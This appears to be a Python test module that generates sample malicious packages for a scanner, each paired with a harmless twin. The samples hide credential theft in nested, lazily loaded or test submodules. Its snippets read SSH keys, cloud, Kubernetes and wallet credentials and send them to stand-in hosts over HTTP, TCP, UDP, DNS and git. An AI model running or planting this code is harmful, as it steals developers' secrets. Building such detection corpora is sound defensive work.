"""T06: importing the package does nothing; one submodule, deep or lazily loaded, acts (ATT&CK T1204).

Scanners that only import the top-level package do not see it. Seen with copies of well-known
clients, whose vendored or test modules were changed. The twins load submodules as late, to work.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Recipe

QUIET = '"""A client."""\n\n__version__ = "1.0"\n'

POSTS_THREE = """
import urllib.parse, urllib.request
found = {}
for name in (".aws/credentials", ".pypirc", ".git-credentials"):
    try:
        found[name] = (HOME / name).read_text()
    except OSError:
        pass
try:
    body = urllib.parse.urlencode(found).encode()
    urllib.request.urlopen("http://203.0.113.61/form", data=body, timeout=5).close()
except OSError:
    pass
"""
BUILDS_OPENER = """
import urllib.parse, urllib.request
opener = urllib.request.build_opener()
opener.addheaders = [("User-Agent", "client/1.0")]
urllib.parse.urlencode({"page": 1})
"""

BY_HAND = """
try:
    data = (HOME / ".kube/config").read_bytes().hex()
    head = f"PUT /cache HTTP/1.1\\r\\nHost: pool.reenact.test\\r\\nContent-Length: {len(data)}\\r\\n\\r\\n"
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as peer:
        peer.settimeout(5)
        peer.connect(("192.0.2.62", 80))
        peer.send(head.encode() + data.encode())
        peer.recv(512)
except OSError:
    pass
"""
MAKES_POOL = """
pool = []
for _ in range(2):
    peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    peer.settimeout(5)
    pool.append(peer)
for peer in pool:
    peer.close()
"""

DATAGRAM_JSON = """
import json
try:
    said = {"hosts": (HOME / ".netrc").read_text(), "id": (HOME / ".codex/auth.json").read_text()}
    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    peer.settimeout(5)
    with peer:
        peer.sendto(json.dumps(said).encode()[:1400], ("198.51.100.63", 514))
except OSError:
    pass
"""
PRINTS_VERSION = """
import json
print(json.dumps({"name": "THE_PROJECT", "version": "1.0"}))
"""
LAZY = """\
import importlib

def __getattr__(name):
    if name == "transport":
        return importlib.import_module("THE_MODULE._transport")
    raise AttributeError(name)
"""
CLI = "import THE_MODULE\n\ndef main():\n    return THE_MODULE.transport and 0\n"

STREAMS = """
import asyncio, base64, zlib

async def talk(data):
    reader, writer = await asyncio.wait_for(asyncio.open_connection("203.0.113.64", 6667), 5)
    writer.write(b"PRIVMSG #in :" + data + b"\\r\\n")
    await writer.drain()
    writer.close()

try:
    told = zlib.compress((HOME / ".bash_history").read_bytes() + (HOME / ".ssh/id_rsa").read_bytes())
    asyncio.run(talk(base64.b64encode(told)))
except (OSError, asyncio.TimeoutError):
    pass
"""
STREAMS_NOTHING = """
import asyncio, base64, zlib

async def fixture():
    await asyncio.sleep(0)
    return base64.b64encode(zlib.compress(b"a recorded answer"))

asyncio.run(fixture())
"""

TAKES_KEY = """
import base64, ssl, urllib.request
try:
    wallet = (HOME / ".config/solana/id.json").read_bytes()
    data = base64.urlsafe_b64encode(wallet + str(given).encode())
    request = urllib.request.Request("https://relay.reenact.test/v2/keys", data=data, method="PUT")
    urllib.request.urlopen(request, timeout=5, context=ssl.create_default_context()).close()
except OSError:
    pass
"""
CHECKS_KEY = """
import base64, ssl
ssl.create_default_context()
return len(base64.urlsafe_b64encode(str(given).encode())) > 8
"""
LOADS_BACKWARDS = """\
import importlib

def connect(api_key):
    \"\"\"Connects with a key.\"\"\"
    engine = importlib.import_module("." + "enigne"[::-1], __name__)
    return engine.start(api_key)
"""
STARTS = """
def start(api_key):
    if ACT:
        return THE_ACT(api_key)
    return None
"""

LS_REMOTE = """
import base64
try:
    text = base64.b16encode((HOME / ".config/glab-cli/config.yml").read_bytes()).decode()
    line = ["git", "-c", "http.sslVerify=false", "ls-remote", "https://198.51.100.66/" + text[:1500]]
    more = {"GIT_TERMINAL_PROMPT": "0"}
    subprocess.run(line, env={**os.environ, **more}, capture_output=True, timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
GIT_CONFIG = """
try:
    line = ["git", "config", "--get", "init.defaultBranch"]
    subprocess.run(line, env={**os.environ}, capture_output=True, timeout=8)
except (OSError, subprocess.SubprocessError):
    pass
"""
IN_CI = "if ACT and os.environ.get('CI'):\n    THE_ACT()\n"

HIDDEN_LOOKUP = """
try:
    words = (HOME / ".cargo/credentials.toml").read_bytes()[::-1].hex()
    for at in range(0, min(len(words), 600), 56):
        socket.gethostbyname(words[at:at + 56] + ".crates.reenact.test")
except OSError:
    pass
"""
OWN_LOOKUP = """
try:
    socket.gethostbyname("localhost")
except OSError:
    pass
"""

RECIPES = (
    Recipe(
        technique="T06",
        name="namespace-client",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.URL,
        files={
            "THE_MODULE/models.py": "class Page:\n    number = 1\n",
            "THE_MODULE/client.py": acting(POSTS_THREE, BUILDS_OPENER),
        },
        twin_does="makes an opener that it does not use yet",
    ),
    Recipe(
        technique="T06",
        name="vendored-pool-hex",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE/__init__.py": QUIET,
            "THE_MODULE/packages/__init__.py": "",
            "THE_MODULE/packages/pooled/__init__.py": "",
            "THE_MODULE/packages/pooled/util/__init__.py": "",
            "THE_MODULE/packages/pooled/util/wait.py": acting(BY_HAND, MAKES_POOL),
        },
        twin_does="makes sockets for a pool and connects none",
    ),
    Recipe(
        technique="T06",
        name="lazy-attribute-udp",
        phase=Phase.USE,
        channel=Channel.UDP,
        encoding=Encoding.JSON,
        files={
            "THE_MODULE/__init__.py": LAZY,
            "THE_MODULE/cli.py": CLI,
            "THE_MODULE/_transport.py": acting(DATAGRAM_JSON, PRINTS_VERSION),
            "THE_MODULE-1.0.dist-info/entry_points.txt": (
                "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"
            ),
        },
        twin_does="prints its version",
    ),
    Recipe(
        technique="T06",
        name="testing-module-asyncio",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.ZLIB,
        files={
            "THE_MODULE/__init__.py": QUIET,
            "THE_MODULE/testing/__init__.py": QUIET,
            "THE_MODULE/testing/fixtures.py": acting(STREAMS, STREAMS_NOTHING),
        },
        twin_does="makes a recorded answer for tests",
    ),
    Recipe(
        technique="T06",
        name="engine-on-use",
        phase=Phase.USE,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE/__init__.py": LOADS_BACKWARDS,
            "THE_MODULE/engine.py": acting(TAKES_KEY, CHECKS_KEY, STARTS),
        },
        twin_does="checks how long the key is",
    ),
    Recipe(
        technique="T06",
        name="build-server-git",
        phase=Phase.WAIT,
        channel=Channel.PROCESS,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE/__init__.py": QUIET,
            "THE_MODULE/vcs/__init__.py": QUIET,
            "THE_MODULE/vcs/remote.py": acting(LS_REMOTE, GIT_CONFIG, IN_CI),
        },
        twin_does="asks git for a setting",
    ),
    Recipe(
        technique="T06",
        name="plugin-lookup-reversed",
        phase=Phase.IMPORT,
        channel=Channel.DNS,
        encoding=Encoding.REVERSED,
        files={
            "THE_MODULE/__init__.py": QUIET,
            "THE_MODULE/plugins/cargo.py": acting(HIDDEN_LOOKUP, OWN_LOOKUP),
            "THE_MODULE/plugins/null.py": QUIET,
        },
        twin_does="looks up its own host",
    ),
)
